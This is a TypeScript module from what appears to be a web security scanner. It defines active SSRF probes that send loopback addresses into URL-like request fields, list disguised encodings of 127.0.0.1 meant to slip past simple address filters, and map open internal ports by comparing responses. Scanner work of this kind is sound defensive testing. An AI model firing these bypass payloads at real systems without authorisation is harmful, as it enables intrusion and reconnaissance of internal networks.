import { type Answer, type Ask, type Outcome, type Probe, type Route, type Target, tryOut } from '../../core/probe.ts'
import { parseUrl } from '../../toolbox/url.ts'

const REMEDY = 'Call addresses of clients with safeFetch(), and guard the process with guardConnections().'
const PLACES = 10
const TELLING =
  /url|uri|link|src|href|image|img|avatar|photo|picture|icon|hook|callback|feed|rss|site|host|domain|server|endpoint|address|remote|proxy|fetch|import|load|page|preview|dest|target|source|file/i

/** One value of one route that may be called as an address. */
interface Place {
  readonly route: Route
  readonly field: string
  send(value: string): Promise<Answer>
}

/** Something that only the app itself can have read: what it shows of a page that the probe knows as well. */
interface Mark {
  readonly path: string
  /** Pieces of that page, of which one in an answer is enough. */
  readonly words: readonly string[]
}

/** Ways to write this machine, from plain to what simple checks let through. */
const PLAIN: readonly ((port: string) => string)[] = [(port) => `http://127.0.0.1:${port}`]
const DISGUISED: readonly ((port: string) => string)[] = [
  (port) => `http://2130706433:${port}`,
  (port) => `http://127.1:${port}`,
  (port) => `http://0x7f.0.0.1:${port}`,
  (port) => `http://0177.0.0.1:${port}`,
  (port) => `http://[::ffff:7f00:1]:${port}`,
  (port) => `http://0:${port}`,
  (port) => `http://①②⑦.0.0.1:${port}`,
  (port) => `http://%6cocalhost:${port}`,
]

const inner: Probe = {
  name: 'ssrf/inner-page',
  risk: 'ssrf',
  title: 'The app calls its own machine for a client, and shows what it read',
  kind: 'active',
  attack: (target) => reads(target, PLAIN),
}

const disguised: Probe = {
  name: 'ssrf/disguised-address',
  risk: 'ssrf',
  title: 'An inner address that is written in another way is called',
  kind: 'active',
  attack: (target) => reads(target, DISGUISED),
}

const ports: Probe = {
  name: 'ssrf/open-ports',
  risk: 'ssrf',
  title: 'A client learns which ports of the inner network are open',
  kind: 'active',
  async *attack(target) {
    const port = portOf(target)
    for (const place of placesOf(target)) {
      const closed = async (): Promise<Answer> => place.send(`http://127.0.0.1:${freePort()}/`)
      const open = async (): Promise<Answer> => place.send(`http://127.0.0.1:${port}/`)
      const attack = async (): Promise<{ worked: boolean; answer: Answer }> => {
        const [one, two, three, four] = [await open(), await closed(), await open(), await closed()]
        const differ = !isSame(one, two) && isSame(one, three) && isSame(two, four)
        return { worked: differ && one.status < 400, answer: one }
      }
      const outcome = await tryOut(
        {
          attack,
          // An app that says something else each time says nothing.
          alsoHarmless: async () => !isSame(await open(), await open()),
        },
        found(place, `${place.field} is called, and the answer tells an open port of this machine from a closed one.`),
      )
      yield outcome
      if (outcome.verdict === 'proven') return
    }
  },
}

export const probes: readonly Probe[] = [inner, disguised, ports]

async function* reads(target: Target, ways: readonly ((port: string) => string)[]): AsyncGenerator<Outcome> {
  const mark = await markOf(target)
  if (mark === undefined) return
  for (const place of placesOf(target)) {
    const call = async (way: (port: string) => string, path: string): Promise<{ worked: boolean; answer: Answer }> => {
      const answer = await place.send(way(portOf(target)) + path)
      return { worked: mark.words.some((word) => answer.text.includes(word)), answer }
    }
    let chosen = ways[0] as (port: string) => string
    for (const way of ways) {
      if (!(await call(way, mark.path)).worked) continue
      chosen = way
      break
    }
    const outcome = await tryOut(
      {
        attack: () => call(chosen, mark.path),
        // Where the words stand anyway, they were not read for us.
        alsoHarmless: async () => {
          const { text } = await place.send(`http://127.0.0.1:${freePort()}${mark.path}`)
          return mark.words.some((word) => text.includes(word))
        },
      },
      found(
        place,
        `${place.field} is called by the app itself, which reached its own machine and showed what it read.`,
      ),
    )
    yield outcome
    if (outcome.verdict === 'proven') return
  }
}

function found(place: Place, message: string): Pick<Outcome, 'method' | 'path' | 'message' | 'remedy'> {
  return { method: place.route.method, path: place.route.path, message, remedy: REMEDY }
}

/** A page of the app that anybody may read, and the words on it. */
async function markOf(target: Target): Promise<Mark | undefined> {
  const pages = target.routes.filter(
    ({ method, query, html }) => method === 'GET' && query === undefined && html === true,
  )
  for (const path of ['/', ...pages.slice(0, 3).map((page) => page.path)]) {
    const { status, text } = await target.send({ path })
    if (status !== 200) continue
    const title = /<title>([^<&"]{8,120})<\/title>/i.exec(text)?.[1]
    const long = text.replaceAll(/\s+/g, ' ').slice(0, 60)
    const words = [title, long.length === 60 && !/["\\\n]/.test(long) ? long : undefined].filter(
      (word) => word !== undefined,
    )
    if (words.length > 0) return { path, words }
  }
  return undefined
}

function portOf(target: Target): string {
  const url = parseUrl(target.origin)
  return url?.port || (url?.protocol === 'https:' ? '443' : '80')
}

/** A port at the upper end, where next to nobody listens. */
function freePort(): number {
  return 65_000 + Math.floor(Math.random() * 500)
}

/** Whether two answers say the same, apart from ports and what is new with each. */
function isSame(a: Answer, b: Answer): boolean {
  return a.status === b.status && plain(a.text) === plain(b.text)
}

function plain(text: string): string {
  return text.replaceAll(/\b[0-9a-f]{16,}\b|\d+/g, '')
}

function placesOf(target: Target): Place[] {
  const places: Place[] = []
  for (const route of target.routes) {
    if (route.method === 'UPGRADE' || route.signIn === true) continue
    for (const [field, value] of Object.entries(route.query ?? {})) {
      if (!isTelling(field, value)) continue
      const send = (next: string): Promise<Answer> =>
        target.send(askOf(target, route, { ...route.query, [field]: next }, route.body?.fields))
      places.push({ route, field, send })
    }
    if (route.method === 'GET' || route.body === undefined || route.body.type === 'text') continue
    const { fields } = route.body
    for (const [field, value] of Object.entries(fields)) {
      if (!isTelling(field, value)) continue
      const send = (next: string): Promise<Answer> =>
        target.send(askOf(target, route, route.query, { ...fields, [field]: next }))
      places.push({ route, field, send })
    }
  }
  return places.slice(0, PLACES)
}

function isTelling(field: string, value: string): boolean {
  return TELLING.test(field) || /^(?:https?:|data:|\/\/)/i.test(value)
}

type Values = Readonly<Record<string, string>> | undefined

function askOf(target: Target, route: Route, query: Values, fields: Values): Ask {
  const { method, body, path } = route
  const ask: Ask = {
    method,
    path: query && Object.keys(query).length > 0 ? `${path}?${new URLSearchParams(query)}` : path,
    signedIn: route.signedIn === true,
    ...(method !== 'GET' && { headers: { origin: target.origin, 'sec-fetch-site': 'same-origin' } }),
  }
  if (fields === undefined || method === 'GET') return ask
  return body?.type === 'json' ? { ...ask, json: fields } : { ...ask, form: fields }
}
